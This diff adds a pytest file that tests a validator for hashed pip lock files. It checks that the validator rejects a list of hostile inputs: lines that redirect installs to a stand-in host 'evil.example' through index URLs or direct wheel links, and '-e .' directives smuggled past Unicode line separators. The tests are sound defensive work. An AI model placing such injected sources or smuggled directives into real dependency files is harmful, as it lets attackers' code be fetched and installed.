@@ -1,0 +1,119 @@
+"""Image locks: only pinned packages with their hashes, and nothing that could fetch anything else."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sekisho.compute.keeps import check_lock
+from sekisho.kernel.errors import SekishoError
+from sekisho_agent.errors import ImageError
+from sekisho_agent.wheels import locked_hashes
+from tests.support import tree
+
+HASH = "--hash=sha256:" + "0123456789abcdef" * 4
+GOOD = f"numpy==2.3.4 \\\n    {HASH} \\\n    {HASH}\n    # via jax\n"
+
+
+@pytest.mark.parametrize(
+    "lock",
+    [
+        GOOD,
+        GOOD + "\n# a remark\n\n" + GOOD.replace("numpy", "Zope.interface_x"),
+        GOOD.replace("==2.3.4", "==1!2.0rc1+cu12-3"),
+        GOOD.replace("numpy", "jax[cuda12,k8s]"),
+        GOOD.replace("2.3.4", "2.3.4 ; python_version < '3.12' and sys_platform == 'linux'"),
+        GOOD.replace("\n", "\r\n"),
+    ],
+)
+def test_a_good_lock(lock: str) -> None:
+    check_lock(lock)
+
+
+@pytest.mark.parametrize(
+    "file", sorted((tree.ROOT / "examples").glob("*/image*.txt")), ids=lambda file: file.name
+)
+def test_the_examples_are_good(file: Path) -> None:
+    check_lock(file.read_text())
+
+
+HOSTILE = [
+    ("", 1),
+    ("# nothing\n", 1),
+    ("\n\n", 2),
+    ("numpy==2.3.4\n", 1),
+    ("numpy>=2 \\\n    " + HASH, 1),
+    ("numpy \\\n    " + HASH, 1),
+    ("numpy==2.3.4 \\\n", 1),
+    ("numpy==2.3.4 \\\n    # via jax\n    " + HASH, 2),
+    ("numpy==2.3.4 \\\njax==1 \\\n    " + HASH, 2),
+    ("numpy==2.3.4\n    " + HASH, 1),
+    (HASH, 1),
+    ("    " + HASH, 1),
+    (GOOD + "    " + HASH, 5),
+    (GOOD.replace("sha256", "md5"), 2),
+    (GOOD.replace("cdef \\", "cde \\"), 2),
+    (GOOD.replace("cdef\n", "cdef \\\n"), 4),
+    (GOOD.replace("cdef\n", "cdef --no-binary :all:\n"), 3),
+    ("--index-url https://evil.example/\n" + GOOD, 1),
+    ("-i https://evil.example/\n" + GOOD, 1),
+    ("--extra-index-url=https://evil.example/ # x\n" + GOOD, 1),
+    ("--find-links .\n" + GOOD, 1),
+    ("-e .\n" + GOOD, 1),
+    ("-r other.txt\n" + GOOD, 1),
+    ("-c other.txt\n" + GOOD, 1),
+    ("./wheel.whl\n" + GOOD, 1),
+    ("https://evil.example/x.whl\n" + GOOD, 1),
+    (GOOD.replace("==2.3.4", " @ https://evil.example/x.whl"), 1),
+    (GOOD.replace("==2.3.4", "==2.3.4 --global-option=x"), 1),
+    (GOOD.replace("2.3.4", "2.3.4 ; python_version > '3' --index-url https://evil.example"), 1),
+    (GOOD.replace("2.3.4", "2.3.4;x"), 1),
+    (GOOD.replace("2.3.4", "2.*"), 1),
+    (GOOD.replace("numpy", "${HOME}"), 1),
+    (GOOD.replace("numpy", "numpy\u2028-e ."), 1),
+    ("# remark\u2028-e .\n" + GOOD, 2),
+    ("# remark\x0b-e .\n" + GOOD, 2),
+    (GOOD + "\0", 5),
+]
+
+
+@pytest.mark.parametrize(("lock", "line"), HOSTILE, ids=[str(number) for number in range(len(HOSTILE))])
+def test_a_lock_that_could_fetch_anything_else_is_refused_at_its_line(lock: str, line: int) -> None:
+    with pytest.raises(SekishoError) as caught:
+        check_lock(lock)
+    assert (caught.value.code, caught.value.params["line"]) == ("compute.image.lock", line)
+
+
+PIECES = st.sampled_from(
+    [
+        "numpy==1",
+        "jax[a]==2",
+        " \\\n",
+        "\n",
+        f"    {HASH}",
+        "# x",
+        " ",
+        "--index-url u",
+        "-e .",
+        " ; a",
+        "\r",
+        "\x0c",
+    ]
+)
+
+
+@given(lock=st.lists(PIECES, max_size=10).map("".join))
+def test_what_we_take_the_sites_agent_takes(tmp_path_factory: pytest.TempPathFactory, lock: str) -> None:
+    try:
+        check_lock(lock)
+    except SekishoError:
+        return
+    file = tmp_path_factory.getbasetemp() / "lock.txt"
+    file.write_bytes(lock.encode())
+    try:
+        assert locked_hashes(file)
+    except ImageError as error:
+        pytest.fail(f"the agent refuses {lock!r}: {error}")
